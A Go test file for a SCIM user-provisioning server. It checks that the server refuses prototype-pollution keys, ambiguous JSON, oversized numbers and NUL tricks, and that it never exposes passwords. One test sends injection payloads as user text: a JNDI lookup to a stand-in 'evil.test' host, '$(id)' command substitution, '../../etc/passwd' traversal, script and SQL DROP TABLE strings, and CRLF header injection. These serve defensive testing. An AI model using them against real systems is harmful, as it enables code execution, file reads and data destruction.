package scim_test

import (
	"encoding/json"
	"net/url"
	"strings"
	"testing"
)

// What went wrong elsewhere, case by case (shared/domain/scim.md section 6): bodies.

// scim-patch CVE-2026-48170: a key "__proto__.x" reached what all objects have in common.
func TestScimPatchCVE2026_48170_NoKeyReachesBeyondTheSchema(t *testing.T) {
	for profile, key := range profileNames {
		a, run := acme.as(acme.token(key)), runName()
		id := a.user(t, "proto-"+run, `"name":{"givenName":"G"}`)
		before := string(a.call(t, "GET", "/Users/"+id, nil).is(200).raw)
		for _, name := range []string{"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "class", "Document", "$where"} {
			for _, body := range []string{`"` + name + `":{"admin":true}`, `"name":{"` + name + `":{"admin":true}}`, `"emails":[{"value":"x","` + name + `":"y"}]`, `"` + enterpriseURN + `":{"` + name + `":"x"}`} {
				a.call(t, "POST", "/Users", `{"userName":"proto2-`+run+`",`+body+`}`).refused(400, "invalidSyntax", name)
				a.call(t, "PUT", "/Users/"+id, `{"userName":"proto-`+run+`",`+body+`}`).refused(400, "invalidSyntax", name)
				a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","value":{`+body+`}}`)).refused(400, "invalidSyntax", name)
			}
			for _, path := range []string{name, name + ".x", "name." + name, `emails[` + name + ` eq \"x\"].value`, enterpriseURN + ":" + name} {
				got := a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","path":"`+path+`","value":true}`)).is(400)
				if scimType := got.text("scimType"); scimType != "invalidPath" && scimType != "invalidFilter" {
					t.Errorf("%s: %s: %s", profile, path, got.raw)
				}
			}
			for _, dotted := range []string{name + ".x", "name." + name + ".x", enterpriseURN + ":" + name} {
				if got := a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","value":{"`+dotted+`":true}}`)); got.status != 400 && profile != "EntraID" {
					t.Errorf("%s: key %s: %d", profile, dotted, got.status)
				}
			}
		}
		if after := string(a.call(t, "GET", "/Users/"+id, nil).is(200).raw); after != before {
			t.Errorf("%s: was %s\nis %s", profile, before, after)
		}
	}
}

// Doyensec, "SCIM Hunting": JSON that two parsers read in two ways.
func TestDoyensecJSONMeansOneThing(t *testing.T) {
	a, run := acme.as(acme.rfc), runName()
	id := a.user(t, "json-"+run, `"active":true`)
	before := string(a.call(t, "GET", "/Users/"+id, nil).is(200).raw)
	own := `"userName":"json-` + run + `"`
	for name, body := range map[string]string{
		"a name twice":                    `{` + own + `,"title":"a","title":"b"}`,
		"in another case":                 `{` + own + `,"title":"a","TITLE":"b"}`,
		"by an escape":                    `{` + own + `,"title":"a","\u0074itle":"b"}`,
		"inside":                          `{` + own + `,"name":{"givenName":"a","GivenName":"b"}}`,
		"in an element":                   `{` + own + `,"emails":[{"value":"a","Value":"b"}]}`,
		"flat and under the core's URN":   `{` + own + `,"title":"a","` + userURN + `":{"title":"b"}}`,
		"an extension twice":              `{` + own + `,"` + enterpriseURN + `":{"department":"a"},"` + strings.ToUpper(enterpriseURN) + `":{"department":"b"}}`,
		"letters that fold to others":     `{` + own + `,"addresses":[{"streetAddress":"a","ſtreetAddress":"b"}]}`,
		"a URN with such a letter":        `{` + own + `,"` + enterpriseURN + `":{"department":"a"},"` + strings.Replace(enterpriseURN, "schemas", "ſchemas", 1) + `":{"department":"b"}}`,
		"an attribute with such a letter": `{` + own + `,"diſplayName":"b"}`,
		"two values":                      `{` + own + `} {` + own + `}`,
		"a byte order mark":               "\ufeff{" + own + `}`,
		"a comment":                       `{` + own + ` /* x */}`,
		"a trailing comma":                `{` + own + `,}`,
		"single quotes":                   `{'userName':'x'}`,
		"NaN":                             `{` + own + `,"` + attributesURN + `":{"score":NaN}}`,
		"cut off":                         `{` + own,
		"a list":                          `[{` + own + `}]`,
		"a string":                        `"x"`,
		"nothing":                         ``,
		"not UTF-8":                       `{` + own + ",\"title\":\"\xff\xfe\"}",
		"a surrogate that is not UTF-8":   `{` + own + ",\"title\":\"\xed\xa0\x80\"}",
		"a control character":             `{` + own + ",\"title\":\"a\x01b\"}",
		"33 deep":                         `{` + own + `,"title":` + strings.Repeat("[", 32) + strings.Repeat("]", 32) + `}`,
		"100000 deep":                     strings.Repeat("[", 100_000),
		"100000 deep, objects":            strings.Repeat(`{"a":`, 100_000),
	} {
		got := a.call(t, "PUT", "/Users/"+id, body)
		got.what = name + ": " + got.what
		got.refused(400, "invalidSyntax")
	}
	for name, operation := range map[string]string{
		"op twice": `{"op":"add","OP":"remove","path":"title","value":"x"}`, "path twice": `{"op":"add","path":"title","Path":"userName","value":"x"}`,
		"a member twice": `{"op":"add","value":{"title":"a","Title":"b"}}`, "an unknown member": `{"op":"add","path":"title","value":"x","from":"/y"}`,
	} {
		got := a.call(t, "PATCH", "/Users/"+id, patch(operation))
		got.what = name + ": " + got.what
		got.refused(400, "invalidSyntax")
	}
	if after := string(a.call(t, "GET", "/Users/"+id, nil).is(200).raw); after != before {
		t.Errorf("was %s\nis %s", before, after)
	}
	for _, media := range []string{"text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/scim+jsonx", "/"} {
		a.call(t, "PUT", "/Users/"+id, `{`+own+`}`, "Content-Type", media).refused(415, "", "Content-Type")
	}
	a.call(t, "PUT", "/Users/"+id, "\x1f\x8b\x08\x00", "Content-Encoding", "gzip").refused(400, "invalidSyntax")
}

// Numbers that do not fit are refused, and none of them takes long.
func TestNumbersThatDoNotFit(t *testing.T) {
	a, run := acme.as(acme.rfc), runName()
	id := a.user(t, "numbers-"+run)
	for value, attribute := range map[string]string{
		"9223372036854775808": "level", "-9223372036854775809": "level", "1.5": "level", "1e3": "level", "1E400": "score", "-1e999999999": "score", `"1"`: "level", "true": "level",
		strings.Repeat("9", 100_000): "level", "1" + strings.Repeat("0", 400): "score",
	} {
		a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","path":"`+attributesURN+`:`+attribute+`","value":`+value+`}`)).refused(400, "invalidValue", attribute)
	}
	at := "[" + attributesURN + "]."
	got := a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","value":{"`+attributesURN+`":{"level":9007199254740993,"score":0.1}}}`)).is(200).want(at+"score", 0.1)
	if !strings.Contains(string(got.raw), `"level":9007199254740993`) {
		t.Errorf("an integer has lost digits: %s", got.raw)
	}
	for _, query := range []string{"count=99999999999999999999", "count=1e3", "startIndex=9223372036854775808", "startIndex=x"} {
		a.call(t, "GET", "/Users?"+query, nil).refused(400, "invalidValue", strings.Split(query, "=")[0])
	}
	a.call(t, "GET", "/Users?startIndex=9223372036854775807&count=1000", nil).is(200).want("Resources.0", nil)
	a.call(t, "GET", encoded(`/Users?filter=`+attributesURN+`:level eq 1e999999999`), nil).refused(400, "invalidFilter")
	a.call(t, "POST", "/Users/.search", `{"schemas":["`+searchURN+`"],"count":1e999999999}`).refused(400, "invalidValue", "count")
	a.call(t, "POST", "/Bulk", `{"schemas":["`+bulkURN+`"],"failOnErrors":1e99,"Operations":[{"method":"DELETE","path":"/Users/x"}]}`).refused(400, "invalidValue", "failOnErrors")
}

// SAP scimono, GHSA-qjp7-gvrw-vxmf: a client's text was evaluated as an expression. Ours come back as
// they were sent: in attributes, in filters and in the details of errors.
func TestSAPScimonoGHSAqjp7_TextsAreNoTemplates(t *testing.T) {
	a, run := acme.as(acme.rfc), runName()
	for _, text := range []string{
		"%s%n%d%x%!v(PANIC=", "${7*7}", "${jndi:ldap://evil.test/x}", "{{7*7}}", "{{.}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "<script>alert(1)</script>", "'; DROP TABLE users; --",
		`\..\..\etc`, "../../etc/passwd", "\u202e\u2028\u200b", "a\tb", "ümläut 漢字 🦊", `"quoted"`, "%00%0a", "a,b", "x\r\nSet-Cookie: a=b",
	} {
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		name, err := json.Marshal(text + run)
		if err != nil {
			t.Fatal(err)
		}
		created := a.call(t, "POST", "/Users", `{"userName":`+string(name)+`,"displayName":`+string(quoted)+`}`).is(201)
		id := created.text("id")
		t.Cleanup(func() { a.tidy(t, "/Users/"+id) })
		for _, got := range []*answer{created, a.call(t, "GET", "/Users/"+id, nil).is(200), a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","path":"title","value":`+string(quoted)+`}`)).is(200).want("title", text)} {
			got.want("userName", text+run).want("displayName", text)
		}
		found := a.call(t, "POST", "/Users/.search", `{"schemas":["`+searchURN+`"],"filter":`+asText(`userName eq `+string(name))+`}`).is(200).want("totalResults", 1)
		found.want("Resources.0.id", id)
		// In details they stand quoted, so that nobody takes them for ours.
		unknown := a.call(t, "POST", "/Users", `{"userName":"x`+run+`",`+string(quoted)+`:1}`)
		unknown.refused(400, "invalidSyntax")
		bad := a.call(t, "PATCH", "/Users/"+id, patch(`{"op":`+string(quoted)+`,"path":"title"}`))
		bad.refused(400, "invalidSyntax")
		path := a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"add","path":`+string(quoted)+`,"value":1}`))
		path.is(400)
		for _, got := range []*answer{unknown, bad, path} {
			detail := got.text("detail")
			if strings.Contains(detail, "49") && strings.Contains(text, "7*7") || strings.Contains(detail, "MISSING") || strings.Contains(detail, "%!s") || strings.ContainsAny(detail, "\r\n\x00") || got.header.Get("Set-Cookie") != "" {
				t.Errorf("%s: the detail is %q", got.what, detail)
			}
		}
		if !strings.Contains(unknown.text("detail"), strings.Trim(asText(text), `"`)) && !strings.ContainsAny(text, "<\u202e\u2028ü\"\\") {
			t.Errorf("the detail does not quote %q: %s", text, unknown.raw)
		}
	}
}

// asText is a text as JSON.
func asText(s string) string {
	data, err := json.Marshal(s)
	if err != nil {
		return `""`
	}
	return string(data)
}

// NUL ends a text in some languages: here it is a character like any other, or refused, but what
// stands before it is never taken for the whole.
func TestNULEndsNoText(t *testing.T) {
	a, run := acme.as(acme.rfc), runName()
	whole := a.user(t, "nul-"+run)
	got := a.call(t, "POST", "/Users", `{"userName":"nul-`+run+`\u0000evil"}`)
	switch got.status {
	case 201:
		id := got.want("userName", "nul-"+run+"\x00evil").text("id")
		t.Cleanup(func() { a.tidy(t, "/Users/"+id) })
		if id == whole {
			t.Error("the text was cut")
		}
	default:
		got.refused(400, "invalidValue")
	}
	a.call(t, "POST", "/Users/.search", `{"schemas":["`+searchURN+`"],"filter":"userName eq \"nul-`+run+`\\u0000\""}`).is(200).want("totalResults", 0)
	a.call(t, "GET", "/Users?filter=userName+eq+%22nul-"+run+"%00%22", nil).refused(400, "invalidFilter")
	a.call(t, "GET", "/Users/"+whole+"%00", nil).is(404)
	a.call(t, "GET", "/Users?filter=userName+eq+%22%ff%fe%22", nil).refused(400, "invalidFilter")
	a.call(t, "GET", "/Users/%ff%fe", nil).is(404)
}

// Okta always sends a password. It is taken, kept nowhere, shown nowhere, and nothing can be asked
// about it.
func TestPasswordsAreKeptNowhere(t *testing.T) {
	const secret = "Pa55-w0rd-kept-nowhere"
	a, run := acme.as(acme.okta), runName()
	id := a.user(t, "password-"+run, `"password":"`+secret+`"`)
	version := a.call(t, "GET", "/Users/"+id, nil).is(200).text("meta.version")
	a.call(t, "PATCH", "/Users/"+id, patch(`{"op":"replace","value":{"password":"`+secret+`"}}`, `{"op":"replace","path":"password","value":"`+secret+`"}`)).is(200).want("meta.version", version)
	for _, got := range []*answer{
		a.call(t, "PUT", "/Users/"+id, `{"userName":"password-`+run+`","password":"`+secret+`"}`).is(200), a.call(t, "GET", "/Users/"+id, nil).is(200),
		a.call(t, "GET", "/Users/"+id+"?attributes=password,userName", nil), a.call(t, "GET", `/Users?filter=userName+eq+%22password-`+run+`%22`, nil).is(200),
		a.call(t, "POST", "/Users", `{"userName":"password-`+run+`","password":"`+secret+`"}`), a.call(t, "POST", "/Users", `{"userName":"p-`+run+`","password":["`+secret+`"],"nothing":1}`),
	} {
		if strings.Contains(string(got.raw), secret) || strings.Contains(string(got.raw), `"password":`) {
			t.Errorf("%s shows the password: %s", got.what, got.raw)
		}
	}
	for _, filter := range []string{`password eq "` + secret + `"`, `password pr`, `not (password sw "P")`, `userName eq "x" or password co "5"`, userURN + `:password ne "x"`, `PASSWORD eq "x"`} {
		a.call(t, "GET", "/Users?filter="+url.QueryEscape(filter), nil).refused(403, "sensitive", "password")
		a.call(t, "POST", "/Users/.search", `{"schemas":["`+searchURN+`"],"filter":`+asText(filter)+`}`).refused(403, "sensitive", "password")
		a.call(t, "GET", "/?filter="+url.QueryEscape(filter), nil).refused(403, "sensitive")
	}
	a.call(t, "GET", "/Users?sortBy=password", nil).refused(403, "sensitive", "password")
	if schemas := string(a.call(t, "GET", "/Schemas", nil).is(200).raw); strings.Contains(schemas, "assword") {
		t.Error("the schemas name a password, which is not kept")
	}
	passwordIsNowhere(t, id, secret)
}
